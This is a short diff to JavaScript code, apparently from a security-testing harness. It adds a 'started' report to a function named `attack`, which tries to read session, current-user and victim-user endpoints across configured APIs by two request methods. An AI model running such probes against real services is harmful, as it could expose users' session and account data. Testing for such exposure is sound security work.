@@ -74,6 +74,7 @@ const beacon = (url, values) =>
 
 /** Everything that a script can try without a document. */
 const attack = async () => {
+  void report('started');
   for (const api of config.apis)
     for (const path of ['/users/current', '/session', `/users/${config.victim}`, '/ui/'])
       await Promise.all([readByFetch(api + path), readByRequest(api + path)]);
